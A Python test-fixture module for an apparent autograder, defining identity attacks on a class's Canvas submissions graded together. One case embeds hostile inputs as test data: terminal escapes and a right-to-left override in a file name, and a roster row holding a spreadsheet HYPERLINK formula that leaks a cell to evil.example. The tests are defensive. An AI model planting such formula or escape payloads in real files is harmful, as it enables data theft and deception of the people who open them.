"""Who is who: attacks on identity when a class is graded together."""

from __future__ import annotations

from dataclasses import dataclass

from tests.conftest import STARTERS
from tests.corpus.model import HONEST

# ---- who is who: a class graded together ----------------------------------------------------


@dataclass(frozen=True)
class ClassAttack:
    """An attack on who is who: files named as Canvas's "Download Submissions" names them,
    graded together by ``autograder grade`` (with ``roster``, a gradebook export, when given).

    ``files`` maps each download name to its ``game.py`` (zipped when the name ends in .zip);
    ``rows`` is each student's exact score in grades.csv, ``graded`` the file each was graded
    on (grades.csv's ``source``), ``warning`` the sentence summary.md's Warnings must hold and
    ``imported`` the score each roster row gets in canvas_import.csv. In every class, no cell
    of a CSV the kit writes starts a formula.
    """

    files: dict[str, str]
    rows: dict[str, float]
    graded: dict[str, str]
    warning: str | None  # None: the class needs no warning
    roster: str | None = None
    imported: dict[str, str] | None = None
    never: tuple[str, ...] = ()  # raw text that must reach no output file nor the terminal
    similarity: bool = False  # graded with --similarity: every page the index links is there


_STARTER = STARTERS["teeko"].read_text()
_VICTIM, _ATTACKER = "smithann_10006_501_homework8.zip", "doejane_10009_502_hw8_10006.zip"
_GRADEBOOK = (
    "Student,ID,SIS User ID,SIS Login ID,Section,HW8 (1001)\n"
    "    Points Possible,,,,,100\n"
    '"Smith, Ann",10006,9006,asmith@wisc.edu,LEC 001,\n'
    '"Doe, Jane",10009,9009,jdoe@wisc.edu,LEC 001,\n'
)
_NAMES_ANOTHER = (
    "identity: Canvas user 10009 handed in hw8_10006.zip, naming another student (Canvas "
    "user 10006); graded as 10009"
)

CLASS_ATTACKS: dict[str, ClassAttack] = {
    # The victim handed in homework8.zip (no netid), so she is known by her user id, 10006; a
    # later student names her zip hw8_10006.zip. Each is graded on her own file.
    "file-name-takes-a-classmates-user-id": ClassAttack(
        {_VICTIM: HONEST, _ATTACKER: _STARTER},
        {"10006": 100, "10009": 50},
        {"10006": _VICTIM, "10009": _ATTACKER},
        _NAMES_ANOTHER,
    ),
    "file-name-takes-a-classmates-user-id-with-a-roster": ClassAttack(
        {_VICTIM: HONEST, _ATTACKER: _STARTER},
        {"asmith": 100, "jdoe": 50},
        {"asmith": _VICTIM, "jdoe": _ATTACKER},
        "identity: Canvas user 10009 handed in hw8_10006.zip, which names 10006; the roster's "
        "login for 10009 is jdoe: graded as jdoe",
        roster=_GRADEBOOK,
        imported={"asmith@wisc.edu": "100", "jdoe@wisc.edu": "50"},
    ),
    # Names that a cleaned-up alphabet would make one: each is a row of its own, shown whole.
    "names-alike-once-cleaned-up": ClassAttack(
        {
            "jo!.py": HONEST,
            "jo?.py": _STARTER,
            "王伟.py": HONEST,
            "李娜.py": _STARTER,
            "Zoë Ñúñez hw8 (1).py": HONEST,
        },
        {"jo!": 100, "jo?": 50, "王伟": 100, "李娜": 50, "Zoë Ñúñez hw8 (1)": 100},
        {
            "jo!": "jo!.py",
            "jo?": "jo?.py",
            "王伟": "王伟.py",
            "李娜": "李娜.py",
            "Zoë Ñúñez hw8 (1)": "Zoë Ñúñez hw8 (1).py",
        },
        None,
    ),
    # A login typed in a file name beside a Canvas id, no roster: the row is the Canvas user's,
    # and the claim is said.
    "a-login-claimed-without-a-roster": ClassAttack(
        {"patelpriya_10006_500006_hw8_ppatel.zip": HONEST},
        {"10006": 100},
        {"10006": "patelpriya_10006_500006_hw8_ppatel.zip"},
        "identity: 1 file name claims a netid (10006 claims ppatel); a name typed in a file "
        "proves nothing, so each row is named by its Canvas user id: give --roster (the Canvas "
        "gradebook export) to name the rows by login",
    ),
    # Terminal escapes, a bell and a right-to-left override in the name of a file handed in
    # beside game.py; a roster name that is a spreadsheet formula. Shown escaped, never live.
    "escapes-in-names-and-a-formula-in-the-roster": ClassAttack(
        {
            "smithann_10006_501_game.py": HONEST,
            "smithann_10006_502_notes\x1b]0;pwned\x07\u202etxt.md": "notes\n",
        },
        {"asmith": 100},
        {"asmith": "smithann_10006_501_game.py"},
        None,
        roster=(
            "Student,ID,SIS User ID,SIS Login ID,Section,HW8 (1001)\n"
            "    Points Possible,,,,,100\n"
            '"=HYPERLINK(""http://evil.example/?""&C3,""Smith"")",10006,9006,asmith,LEC 001,\n'
        ),
        imported={"asmith": "100"},
        never=("\x1b", "\x07", "\u202e"),
    ),
    # Two long names (80 Chinese characters each, 240 bytes) in one flagged pair: the pair's
    # page gets a name a file system takes, and the index links only pages that exist.
    "two-long-names-in-a-flagged-pair": ClassAttack(
        {f"{'王' * 80}.py": HONEST, f"{'李' * 80}.py": HONEST},
        {"王" * 80: 100, "李" * 80: 100},
        {"王" * 80: f"{'王' * 80}.py", "李" * 80: f"{'李' * 80}.py"},
        None,
        similarity=True,
    ),
}
